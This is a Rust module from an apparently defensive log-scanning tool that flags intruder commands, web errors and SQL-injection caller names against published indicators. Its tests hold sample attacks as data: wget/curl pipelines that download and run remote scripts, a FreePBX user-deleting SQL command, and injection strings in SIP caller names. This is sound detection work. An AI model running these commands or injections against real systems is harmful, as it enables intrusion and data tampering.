//! Records whose text bears a published mark: commands that were typed or run, what a caller calls himself, errors
//! of a web server's pages.
//!
//! A mark is kept once for each user who left it, with its first line and how often it came. What it means is for
//! those who look at it: a command that an administrator types on a bad day looks like an intruder's.

use std::borrow::Cow;
use std::collections::BTreeMap;

use crate::event::{Action, Citation, Entry, Instant, Service};
use crate::indicators::{self, Indicator, Kind};

/// Marks kept of one source.
const MOST: usize = 1_000;
/// No command or name that counts is longer, in bytes.
const LONGEST: usize = 8 * 1024;
/// No user's name is longer.
const LONGEST_USER: usize = 128;

/// One mark in the records of a source.
#[derive(Clone, Debug)]
pub struct MarkedLine {
    /// The mark.
    pub indicator: &'static Indicator,
    /// When first, where that is told.
    pub at: Option<Instant>,
    /// How many records bear it.
    pub count: u64,
    /// The first of them.
    pub line: Citation,
}

/// All marks of a source, by the user whose records they are in and the place of the mark among all.
#[derive(Debug, Default)]
pub struct Marked {
    /// Those kept.
    pub found: BTreeMap<(Box<[u8]>, usize), MarkedLine>,
    /// Those beyond the limit.
    pub beyond: u64,
}

/// Returns whether records of an action are looked through for marks.
pub(super) fn is_looked_at(entry: &Entry) -> bool {
    let is_host = entry.service == Service::Host;
    (entry.action == Action::Command && is_host) || entry.action == Action::WebError
}

impl Marked {
    /// Looks a record through.
    pub(super) fn entry(
        &mut self,
        action: Action,
        (user, text): (&[u8], &[u8]),
        at: Option<Instant>,
        line: &dyn Fn() -> Citation,
    ) {
        let kinds: &[Kind] =
            if action == Action::Command { &[Kind::Command, Kind::Line] } else { &[Kind::Error] };
        let text = plain(text.get(..LONGEST).unwrap_or(text));
        // What is commented out does nothing.
        if text.trim_ascii_start().starts_with(b"#") {
            return;
        }
        kinds.iter().for_each(|kind| self.look(*kind, user, &text, at, line));
    }

    /// Looks through what a caller calls himself.
    pub(super) fn caller(&mut self, name: &[u8], at: Instant, line: &dyn Fn() -> Citation) {
        // Every statement for a database has one of these; hardly any name has.
        if memchr::memchr3(b'\'', b'(', b';', name).is_some() || name.len() > 40 {
            self.look(Kind::Caller, b"", name.get(..LONGEST).unwrap_or(name), Some(at), line);
        }
    }

    fn look(
        &mut self,
        kind: Kind,
        user: &[u8],
        text: &[u8],
        at: Option<Instant>,
        line: &dyn Fn() -> Citation,
    ) {
        for place in indicators::of_text(kind, text) {
            let Some(indicator) = indicators::all().get(place) else { continue };
            let key = (Box::from(user.get(..LONGEST_USER).unwrap_or(user)), place);
            if self.found.len() >= MOST && !self.found.contains_key(&key) {
                self.beyond += 1;
                continue;
            }
            let known = self.found.entry(key);
            known.or_insert_with(|| MarkedLine { indicator, at, count: 0, line: line() }).count += 1;
        }
    }
}

/// Returns a command as it was typed: the histories of databases' clients write a blank as `\040`.
fn plain(text: &[u8]) -> Cow<'_, [u8]> {
    if memchr::memmem::find(text, b"\\040").is_none() {
        return Cow::Borrowed(text);
    }
    let mut plain = Vec::with_capacity(text.len());
    let mut rest = text;
    while let Some((&first, behind)) = rest.split_first() {
        let octal = behind
            .get(..3)
            .filter(|digits| first == b'\\' && digits.iter().all(|d| (b'0'..=b'7').contains(d)));
        let value =
            octal.map(|digits| digits.iter().fold(0_u32, |sum, digit| sum * 8 + u32::from(digit - b'0')));
        match value.and_then(|value| u8::try_from(value).ok()) {
            Some(byte) => {
                plain.push(byte);
                rest = behind.get(3..).unwrap_or_default();
            }
            None => {
                plain.push(first);
                rest = behind;
            }
        }
    }
    Cow::Owned(plain)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::event::{Place, SourceId};

    fn marks(action: Action, text: &str) -> Vec<&'static str> {
        let mut marked = Marked::default();
        let line = || Citation::new(Place { source: SourceId(0), offset: 0, line: 1 }, b"x");
        marked.entry(action, (b"root", text.as_bytes()), None, &line);
        marked.found.values().map(|found| found.indicator.id.as_str()).collect()
    }

    #[test]
    fn what_intruders_type_is_marked() {
        assert_eq!(marks(Action::Command, "wget http://192.0.2.1/a -O- | sh"), ["generic-9"]);
        assert_eq!(
            marks(Action::Command, "curl -k http://192.0.2.1/z/wr.php | bash"),
            ["generic-9", "isstok-10", "jomangy-3", "jomangy-20"]
        );
        assert_eq!(
            marks(Action::Command, "DELETE\\040FROM\\040ampusers\\040WHERE\\040username='svc_freepbx';"),
            ["e64328-9", "e64328-11"]
        );
        assert_eq!(marks(Action::WebError, "PHP: XPATH syntax error: '~x'"), ["e57819-13"]);
    }

    #[test]
    fn what_administrators_type_is_not() {
        for text in [
            "ls -la /var/www/html",
            "crontab -e",
            "crontab -l | grep fwconsole",
            "wget http://mirror.freepbx.org/modules/a.tgz",
            "curl -sS https://packages.example/key.asc | gpg --dearmor",
            "# wget http://192.0.2.1/a | sh",
            "UPDATE ampusers SET password_sha1=SHA1('x') WHERE username='admin';",
            "select * from cdr where dst='0044' limit 5;",
            "delete from cdr where calldate < '2020-01-01';",
            "chown asterisk:asterisk /var/www/html -R",
            "useradd -m anna",
            "history | grep asterisk",
            "asterisk -rx 'core show channels'",
        ] {
            assert!(marks(Action::Command, text).is_empty(), "{text}: {:?}", marks(Action::Command, text));
        }
    }

    #[test]
    fn names_that_are_statements_are_marked() {
        let caller = |name: &str| {
            let mut marked = Marked::default();
            let line = || Citation::new(Place { source: SourceId(0), offset: 0, line: 1 }, b"x");
            marked.caller(name.as_bytes(), Instant::from_seconds(0), &line);
            marked.found.len()
        };
        assert_eq!(caller("\"x' UNION SELECT 1,2 -- \" <sip:1@x>"), 1);
        assert_eq!(caller("\"a'); INSERT INTO ampusers VALUES(1)#\" <100>"), 1);
        for name in ["\"O'Brien, Ann (sales)\" <100>", "\"L'Union Select Hotel\" <0301>", "D'Angelo; Meier"] {
            assert_eq!(caller(name), 0, "{name}");
        }
    }

    proptest::proptest! {
        #[test]
        fn any_text_is_looked_through(text in proptest::collection::vec(proptest::num::u8::ANY, 0..300)) {
            let mut marked = Marked::default();
            let line = || Citation::new(Place { source: SourceId(0), offset: 0, line: 1 }, b"x");
            marked.entry(Action::Command, (b"", &text), None, &line);
            marked.caller(&text, Instant::from_seconds(0), &line);
        }
    }
}
